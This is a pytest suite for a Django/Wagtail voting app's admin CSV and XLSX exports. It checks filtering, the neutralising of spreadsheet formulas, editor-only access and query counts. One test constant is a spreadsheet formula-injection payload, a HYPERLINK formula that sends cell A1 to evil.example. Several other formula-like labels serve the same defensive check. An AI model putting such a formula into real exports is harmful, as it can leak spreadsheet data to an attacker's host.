"""CSV and XLSX exports in the admin: the rows shown, formulas neutralised, for editors only."""

import csv
import io
import uuid
from datetime import datetime

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tests.votes.test_admin import (
    LISTING,
    admin_user_with,
    assert_refused,
    cast,
    enter_paper,
)
from wagtail_participation.models import Ballot

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'


pytestmark = pytest.mark.usefixtures("no_rate_limits")


def ballots_export(client, export_format, **filters):
    return client.get(reverse(LISTING), {**filters, "export": export_format})


def results_export(client, vote, export_format):
    return client.get(
        reverse("wagtail_participation_vote_results_export", args=[vote.pk, export_format])
    )


def read_csv(response):
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    body = response.getvalue().decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(body[1:])))


def read_xlsx(response):
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert ".xlsx" in response["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(response.getvalue()))
    return list(workbook.active.iter_rows())


@pytest.fixture
def hostile_vote(make_vote, article_with):
    """A vote whose wording a spreadsheet would run, with online and paper ballots."""
    vote = make_vote(kind="single", options=[HOSTILE, "@SUM(1+1)", "Stade"], title="+Budget")
    article = article_with(vote)
    return vote, article


@pytest.mark.django_db
def test_ballots_csv_export_has_the_filtered_rows_with_formulas_neutralised(
    client, editor, hostile_vote, make_vote, article_with
):
    vote, article = hostile_vote
    other = make_vote(title="Parking")
    cast(other, article_with(other, slug="parking"), "for")
    hostile_key = vote.options.get(label=HOSTILE).key
    cast(vote, article, hostile_key)
    enter_paper(client, vote, note="-2+3 @bureau", **{hostile_key: 12, "stade": 4})

    rows = read_csv(ballots_export(client, "csv", target=vote.pk))

    header, data = rows[0], rows[1:]
    assert header == [
        "ID",
        "Participation",
        "Date",
        "Channel",
        "Choices",
        "Number of ballots",
        "Entered by",
        "Note",
    ]
    assert len(data) == 3  # the other vote's ballot is filtered out
    assert {row[1] for row in data} == {"'+Budget"}
    assert sorted(row[4] for row in data) == sorted(["'" + HOSTILE, "'" + HOSTILE, "Stade"])
    paper = [row for row in data if row[3] == "Paper (counted in person)"]
    assert sorted(row[5] for row in paper) == ["12", "4"]
    assert {row[6] for row in paper} == {editor.get_username()}
    assert {row[7] for row in paper} == {"'-2+3 @bureau"}
    online = [row for row in data if row[3] == "Online"]
    assert online[0][5] == "1" and online[0][6] == ""
    datetime.fromisoformat(online[0][2])  # a plain local date and time


@pytest.mark.django_db
def test_ballots_xlsx_export_reads_back_as_text_and_numbers(client, editor, hostile_vote):
    vote, article = hostile_vote
    hostile_key = vote.options.get(label=HOSTILE).key
    cast(vote, article, hostile_key)
    enter_paper(client, vote, note="bureau\x01 2", **{hostile_key: 12})

    rows = read_xlsx(ballots_export(client, "xlsx", channel="paper"))

    assert [cell.value for cell in rows[0]][:3] == ["ID", "Participation", "Date"]
    (paper,) = rows[1:]
    ballot = Ballot.objects.get(channel="paper")
    assert paper[0].value == ballot.pk and paper[0].data_type == "n"
    assert paper[1].value == "'+Budget"
    assert isinstance(paper[2].value, datetime)
    assert paper[4].value == "'" + HOSTILE and paper[4].data_type == "s"
    assert paper[5].value == 12 and isinstance(paper[5].value, int)
    assert paper[7].value == "bureau 2"  # a control character XML cannot hold is dropped


@pytest.mark.django_db
def test_results_export_has_online_paper_and_total_per_option(client, editor, hostile_vote):
    vote, article = hostile_vote
    hostile_key = vote.options.get(label=HOSTILE).key
    cast(vote, article, hostile_key)
    cast(vote, article, "stade")
    cast(vote, article, "stade")
    enter_paper(client, vote, **{hostile_key: 5, "stade": 1})
    expected = [
        ["Option", "Online", "Paper", "Total", "Share (%)"],
        ["'" + HOSTILE, 1, 5, 6, 66.67],
        ["'@SUM(1+1)", 0, 0, 0, 0.0],
        ["Stade", 2, 1, 3, 33.33],
        ["Total", 3, 6, 9, 100],
    ]

    as_csv = read_csv(results_export(client, vote, "csv"))
    as_xlsx = [
        [cell.value for cell in row] for row in read_xlsx(results_export(client, vote, "xlsx"))
    ]

    assert as_csv == [[str(cell) for cell in row] for row in expected]
    assert as_xlsx == expected


@pytest.mark.django_db
def test_an_export_with_invalid_filters_is_refused_with_the_errors(client, editor, hostile_vote):
    vote, article = hostile_vote
    cast(vote, article, "stade")

    response = ballots_export(client, "csv", date_from="hier")

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Some filters are not valid" in response.content.decode()


@pytest.mark.django_db
def test_an_unknown_results_format_is_a_404(client, editor, hostile_vote):
    vote, _article = hostile_vote
    assert results_export(client, vote, "pdf").status_code == 404


@pytest.mark.django_db
def test_exports_are_for_editors_only(hostile_vote):
    vote, article = hostile_vote
    cast(vote, article, "stade")
    reader = Client()
    reader.force_login(admin_user_with("view_vote", username="reader"))

    assert_refused(ballots_export(reader, "csv"))
    assert_refused(ballots_export(reader, "xlsx"))
    assert_refused(results_export(reader, vote, "csv"))
    assert_refused(results_export(reader, vote, "xlsx"))
    for response in (ballots_export(Client(), "csv"), results_export(Client(), vote, "csv")):
        assert response.status_code == 302 and "/admin/login/" in response["Location"]


@pytest.mark.django_db
def test_the_ballots_export_makes_the_same_queries_for_3_or_30_ballots(
    client, editor, hostile_vote
):
    vote, _article = hostile_vote

    def queries_for_export():
        with CaptureQueriesContext(connection) as queries:
            response = ballots_export(client, "csv", target=vote.pk)
            response.getvalue()
        return len(queries)

    def add_paper(n):
        for _ in range(n):
            client.post(
                reverse("wagtail_participation_vote_paper", args=[vote.pk]),
                {"option-stade": "1", "entry_token": uuid.uuid4().hex},
            )

    add_paper(3)
    few = queries_for_export()
    add_paper(27)
    assert Ballot.objects.count() == 30
    assert queries_for_export() == few
